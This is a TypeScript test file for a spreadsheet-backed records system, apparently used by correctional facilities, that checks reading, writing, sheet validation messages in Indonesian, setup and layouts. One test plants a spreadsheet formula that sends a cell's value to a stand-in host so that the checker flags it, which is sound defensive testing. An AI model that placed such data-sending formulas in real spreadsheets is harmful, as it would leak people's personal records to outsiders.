import type { Partner } from '@kemandirian/core/facilities'
import { type FacilityId, id, KemandirianError, type PartnerId } from '@kemandirian/core/foundations'
import { openRecords } from '@kemandirian/core/records'
import { beforeEach, describe, expect, it } from 'vitest'
import { checkSheet } from '../src/check-sheet.js'
import { facilityLayout } from '../src/layout/facility-layout.js'
import { sheetLayout, tabLayout } from '../src/layout/tab-layout.js'
import { setUpSheet } from '../src/set-up-sheet.js'
import { describeProblem } from '../src/sheet-problem.js'
import { sheetsStorage } from '../src/sheets-storage.js'
import { type OpenedSheet, openedSheet } from './opened-sheet.js'

const facility = id<FacilityId>('lapas-contoh')
const partner = (name: string): Partner => ({
  id: id<PartnerId>(name.toLowerCase()),
  facility,
  name: { normal: name, short: null, spellings: [] },
  kind: 'blk',
  place: null,
})

/** As in the spreadsheet of a facility, without the tabs that are not looked at. */
const partnersOnly = sheetLayout(facilityLayout().tabs.filter(({ title }) => title === 'Mitra'))

let sheet: OpenedSheet
const records = () => openRecords(sheetsStorage(sheet.options()), { now: () => '2025-08-21T02:00:00.000Z' })
const check = (annotate = false) => checkSheet({ ...sheet.options(), annotate })

beforeEach(async () => {
  sheet = await openedSheet([], { layout: partnersOnly })
  const at = records().at(facility)
  await at.commit({ by: 'operator' }, async (commit) => {
    for (const name of ['Satu', 'Dua', 'Tiga']) await commit.partners.put(partner(name))
  })
  sheet.emulator.requests.reset()
})

describe('records on a sheet', () => {
  it('are read as they were put, and as people change them', async () => {
    const { partners } = records().at(facility)
    expect(await partners.get('dua')).toEqual(partner('Dua'))
    sheet.hand.type('Mitra!A3', 'Dua Baru')
    expect((await partners.get('dua'))?.name.normal).toBe('Dua Baru')
  })

  it('keep what people type when other fields are put', async () => {
    const { partners } = records().at(facility)
    sheet.hand.type('Mitra!A3', 'Dua Baru')
    const read = await partners.get('dua')
    await partners.put({ ...read!, kind: 'lpk' }, { by: 'operator' })
    expect(sheet.book.values('Mitra!A3:C3')).toEqual([['Dua Baru', '', 'LPK']])
  })
})

describe('the check', () => {
  it('has nothing to say of a sheet in order: one look at the tabs, one read, no write', async () => {
    expect(await check(true)).toMatchObject({ problems: [], documents: { partner: 3 }, written: 0 })
    expect([sheet.emulator.requests.reads, sheet.emulator.requests.writes]).toEqual([2, 0])
  })

  it('writes beside the rows in several requests where one cannot carry it', async () => {
    for (const row of [2, 3, 4]) sheet.hand.type(`Mitra!C${row}`, 'bengkel')
    expect(await checkSheet({ ...sheet.options(), annotate: true, mostBytes: 1 })).toMatchObject({
      written: 3,
    })
    expect(sheet.emulator.requests.writes).toBe(3)
    expect((await check(true)).written).toBe(0)
  })

  it('tells what is wrong, where, in Indonesian, and what would help', async () => {
    sheet.hand.clear('Mitra!A2')
    sheet.hand.type('Mitra!C3', 'bengkel')
    sheet.hand.numberFormat('Mitra!D4', '0.00')
    sheet.hand.type('Mitra!D4', '=IMPORTDATA("https://x.test/?"&A4)')
    sheet.hand.type('Mitra!A9', 'Mitra Baru')
    sheet.hand.copy('Mitra!A4:K4', 'Mitra!A12')
    sheet.hand.type('Mitra!B1', 'Nama Pendek')
    sheet.hand.deleteColumns('Mitra', 'E')
    const { problems } = await check()
    const told = problems.map((problem) => `${problem.at} ${problem.code}`)
    expect(told).toEqual(
      expect.arrayContaining([
        'Mitra header-renamed',
        'Mitra column-missing',
        'Mitra!A2 not-accepted',
        'Mitra!C3 not-a-choice',
        'Mitra!D4 formula-sends-data',
        'Mitra!D4 cell-loading',
        'Mitra!A9 row-without-id',
        'Mitra!A12 copied-row',
      ]),
    )
    const renamed = problems.find(({ code }) => code === 'header-renamed')!
    expect(describeProblem(renamed, 'id')).toBe(
      'Judul kolom diubah: Singkatan menjadi Nama Pendek. Kolom tetap dikenali.',
    )
  })

  it('writes it beside the rows, once, and takes it away when it is mended', async () => {
    sheet.hand.type('Mitra!C3', 'bengkel')
    sheet.hand.type('Mitra!A9', 'Mitra Baru')
    expect(await check(true)).toMatchObject({ written: 2 })
    expect(sheet.book.values('Mitra!F3')[0]?.[0]).toMatch(
      /^Jenis: "bengkel" bukan pilihan di kolom ini\. Pilih salah satu: Dinas, BLK, /,
    )
    expect(sheet.book.values('Mitra!F9')).toEqual([
      [expect.stringMatching(/^Baris ini belum terdaftar di sistem\./)],
    ])
    expect(sheet.book.html('Mitra')).toContain('rgb(255,235,204)')
    expect(await check(true)).toMatchObject({ written: 0 })
    sheet.hand.type('Mitra!C3', 'lpk')
    sheet.hand.clear('Mitra!A9')
    expect(await check(true)).toMatchObject({ problems: [], written: 2 })
    expect(sheet.book.values('Mitra!F2:F9')).toEqual([])
  })
})

describe('what the check wrote beside a cell', () => {
  it('goes with the commit that writes over the cell, and what is said of other cells stays', async () => {
    sheet.hand.type('Mitra!C3', 'bengkel')
    sheet.hand.clear('Mitra!A3')
    await check(true)
    const said = () => sheet.book.values('Mitra!F3')[0]?.[0] ?? ''
    expect(said()).toMatch(/^Jenis: .*\nNama: /)
    const { partners } = records().at(facility)
    await partners.put({ ...(await partners.get('dua'))!, kind: 'lpk' }, { by: 'operator' })
    expect(said()).toMatch(/^Nama: [^\n]*$/)
    sheet.emulator.requests.reset()
    const name = { normal: 'Dua Baru', short: null, spellings: [] }
    await partners.put({ ...(await partners.get('dua'))!, name }, { by: 'operator' })
    expect([said(), sheet.emulator.requests.writes]).toEqual(['', 1])
    expect(await check(true)).toMatchObject({ problems: [], written: 0 })
  })
})

describe('setting up', () => {
  const setUp = (spreadsheetId: string, layout = sheet.layout) =>
    setUpSheet({ client: sheet.client(), spreadsheetId, layout })

  it('is one read and one write, and hides what is not for staff', async () => {
    const book = sheet.emulator.create({ title: 'Baru' })
    await setUp(book.id, facilityLayout())
    expect([sheet.emulator.requests.reads, sheet.emulator.requests.writes]).toEqual([1, 1])
    const tabs = book.read().sheets as { properties: { title: string; hidden?: boolean } }[]
    const visible = tabs.filter(({ properties }) => !properties.hidden).map((tab) => tab.properties.title)
    expect(visible).toEqual(
      'Sheet1 UPT Mitra Petugas Peserta Program Angkatan Pendaftaran Sertifikat PKS Produk Penjualan Petunjuk Karantina'.split(
        ' ',
      ),
    )
  })

  it('refuses where a tab has the title already, and changes nothing', async () => {
    const book = sheet.emulator.create({ title: 'Lama', tabs: [{ title: 'MITRA', rows: [['Nama']] }] })
    expect(await setUp(book.id)).toEqual({
      ok: false,
      refusal: { code: 'title-taken', titles: ['Mitra'] },
    })
    expect(book.tabs).toEqual(['MITRA'])
  })

  it('says whom to share with when the spreadsheet is not shared', async () => {
    const book = sheet.emulator.create({ sharedWith: {} })
    await expect(setUp(book.id)).rejects.toMatchObject({
      code: 'sheet-not-shared',
      message: expect.stringContaining('Bagikan'),
    })
  })

  it('adds the tabs that a layout has come to have', async () => {
    const kind = { name: 'catatan', fields: { isi: 'text' } } as const
    const grown = sheetLayout([
      ...sheet.layout.tabs,
      tabLayout({ kind }, { title: 'Catatan', columns: { isi: 'Isi' } }),
    ])
    expect(await setUp(sheet.book.id, grown)).toMatchObject({
      ok: true,
      value: { created: ['Catatan'], added: [] },
    })
    expect(await records().at(facility).partners.get('dua')).toEqual(partner('Dua'))
  })
})

describe('a layout', () => {
  const kind = { name: 'orang', fields: { nama: 'text' } } as const
  const wrong: readonly (readonly [string, () => unknown])[] = [
    ['a column of no field', () => tabLayout({ kind }, { title: 'T', columns: { umur: 'Umur' } })],
    ['an empty header', () => tabLayout({ kind }, { title: 'T', columns: { nama: ' ' } })],
    ['a header of the adapter', () => tabLayout({ kind }, { title: 'T', columns: { nama: '_KUNCI' } })],
    [
      'a kind twice',
      () => sheetLayout([tabLayout({ kind }, { title: 'A' }), tabLayout({ kind }, { title: 'B' })]),
    ],
    ['a title of the adapter', () => sheetLayout([tabLayout({ kind }, { title: 'petunjuk' })])],
  ]
  it.each(wrong)('refuses %s', (_, make) => {
    expect(make).toThrow(KemandirianError)
    expect(make).toThrow(expect.objectContaining({ code: 'invalid-layout' }))
  })

  it('has columns of specific personal data only where they are let in', () => {
    const columnsOf = (layout: ReturnType<typeof facilityLayout>) =>
      layout.tabs.find(({ title }) => title === 'Peserta')!.columns.map(({ header }) => header)
    expect(columnsOf(facilityLayout())).not.toContain('NIK')
    const some = columnsOf(facilityLayout({ specific: { participant: ['nik'] } }))
    expect([some.includes('NIK'), some.includes('Tindak Pidana')]).toEqual([true, false])
  })
})
